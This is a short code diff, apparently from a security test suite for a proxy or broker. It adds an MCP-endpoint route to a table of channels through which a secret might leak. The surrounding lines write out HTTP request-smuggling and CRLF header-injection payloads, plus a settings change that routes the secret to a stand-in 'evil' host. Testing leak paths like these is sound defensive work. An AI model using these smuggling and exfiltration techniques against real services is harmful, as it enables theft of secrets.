@@ -80,6 +80,12 @@ export const channels: Readonly<Record<string, Channel>> = {
     `${fetching(`${allowed}/guide/page`, { headers: 'content-length: 4\r\ntransfer-encoding: chunked\r\n' })}0\r\n\r\n${fetching(`${allowed}/guide/${secret}`)}`,
   'line in a header': (secret, { allowed }) => fetching(`${allowed}/guide/page\r\nx-data: ${secret}\r\nx: `),
   'model of the session': (secret) => request(`/model/any/${encodeURIComponent(secret)}`),
+  'MCP server of the session': (secret) =>
+    request('/mcp/any', {
+      method: 'POST',
+      headers: `content-type: application/json\r\ncontent-length: ${Buffer.byteLength(secret)}\r\n`,
+      body: secret,
+    }),
   'settings of the broker': (secret, { evil }) => {
     const body = JSON.stringify({ upstreams: [], allow: [`private:${evil}/${secret}/`] });
     return request('/settings', {
